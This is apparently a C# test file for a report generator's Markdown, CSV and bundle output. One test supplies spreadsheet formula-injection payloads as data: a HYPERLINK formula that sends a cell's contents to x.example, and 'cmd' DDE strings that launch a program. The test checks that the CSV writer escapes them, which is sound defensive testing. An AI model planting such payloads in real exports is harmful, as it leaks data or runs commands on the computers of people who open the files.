using System.Globalization;
using System.Text;
using CsvHelper;
using Landrush.Analysis.Concentration;
using Landrush.Reports.Documents;
using Landrush.Reports.Model;
using Landrush.Reports.Tables;

namespace Landrush.Reports.Tests.Documents;

public class MarkdownAndCsvTests
{
    [Fact]
    public void Markdown_says_synthetic_at_the_top_then_the_verdict_then_figures_linked_beside_it_and_ends_with_one_newline()
    {
        var md = MarkdownReport.Render(SampleReports.Full);
        var lines = md.Split('\n');
        Assert.StartsWith("# ", lines[0], StringComparison.Ordinal);
        Assert.StartsWith("> **SYNTHETIC DATA.**", lines[2], StringComparison.Ordinal);
        Assert.True(md.IndexOf("## Verdict", StringComparison.Ordinal) < md.IndexOf("## Figures", StringComparison.Ordinal));
        Assert.Contains("![Lorenz curve of holdings (Gini 0.946)](figures/lorenz.png)", md, StringComparison.Ordinal);
        Assert.Contains("```\n" + SampleReports.Command + "\n```", md, StringComparison.Ordinal);
        Assert.EndsWith("\nSeed: 2008\n", md, StringComparison.Ordinal);
    }

    [Fact]
    public void Bundle_holds_both_documents_every_rendered_figure_twice_and_every_table_as_csv()
    {
        var report = SampleReports.Full;
        var files = ReportBundle.Files(report).ToDictionary(f => f.RelativePath, f => f.Content);
        Assert.Contains("report.md", files.Keys);
        Assert.Contains("report.html", files.Keys);
        foreach (var f in report.Figures.Where(f => f.IsRendered))
        {
            Assert.Equal(f.Png, files[$"figures/{f.Id}.png"]);
            ImageChecks.AssertDrawnSvg(Encoding.UTF8.GetString(files[$"figures/{f.Id}.svg"]));
        }

        Assert.All(report.Tables, t => Assert.Contains($"tables/{t.Id}.csv", files.Keys));
        Assert.Contains("tables/reproduced.csv", files.Keys);
    }

    [Fact]
    public void Csv_reads_back_to_the_same_cells_with_commas_and_quotes_intact()
    {
        var table = new ReportTable("t", "T", ["party", "names held"], [["A, \"the first\"", "5,010"], ["B", "5086"]]);
        var text = CsvTable.Render(table);
        using var reader = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add([reader.GetField(0)!, reader.GetField(1)!]);
        }

        Assert.Equal(["party", "names held"], rows[0]);
        Assert.Equal(["A, \"the first\"", "5,010"], rows[1]);
        Assert.Equal(["B", "5086"], rows[2]);
        Assert.DoesNotContain('\r', text);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)")]
    [InlineData("\t=1+1")]
    public void Csv_escapes_a_cell_a_spreadsheet_would_run_as_a_formula(string cell)
    {
        var table = new ReportTable("t", "T", ["party", "share"], [[cell, "-0.25"], ["B", "1E-05"]]);
        var text = CsvTable.Render(table);
        using var reader = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add([reader.GetField(0)!, reader.GetField(1)!]);
        }

        // Shown as text with a leading quote; numbers, negative ones too, are left as numbers.
        Assert.Equal(["'" + cell, "-0.25"], rows[1]);
        Assert.Equal(["B", "1E-05"], rows[2]);
    }

    [Fact]
    public void Csv_refuses_a_row_of_the_wrong_width()
    {
        var table = new ReportTable("t", "T", ["a", "b"], [["1"]]);
        Assert.Throws<ArgumentException>(() => CsvTable.Render(table));
    }

    [Fact]
    public void Bundle_refuses_ids_that_would_leave_the_output_folder()
    {
        var report = SampleReports.Full with { Tables = [new ReportTable("../x", "T", ["a"], [])] };
        Assert.Throws<ArgumentException>(() => ReportBundle.Files(report));
    }

    [Fact]
    public void The_group_tables_name_their_shares_as_of_the_names_whose_holder_shows()
    {
        // `registered` counts the names whose holder does not show too: a share named after it would read 2 of 4, the table's is 2 of 3.
        using var writer = new StringWriter();
        ConcentrationCsv.WriteGroups(writer, [new GroupShare("length 1", 10, 4, [2, 1], HolderUnknown: 1)], ["A", "B"]);
        var lines = writer.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal("group,space_names,registered,top_party,top_holdings,top_share_holder_known,cr2_holder_known,hhi_holder_known,registered_holder_unknown", lines[0]);
        var row = lines[0].Split(',').Zip(lines[1].Split(',')).ToDictionary(c => c.First, c => c.Second);
        var known = int.Parse(row["registered"], CultureInfo.InvariantCulture) - int.Parse(row["registered_holder_unknown"], CultureInfo.InvariantCulture);
        Assert.Equal(3, known);
        Assert.Equal(2.0 / known, double.Parse(row["top_share_holder_known"], CultureInfo.InvariantCulture));
        Assert.Equal(1.0, double.Parse(row["cr2_holder_known"], CultureInfo.InvariantCulture));
    }
}
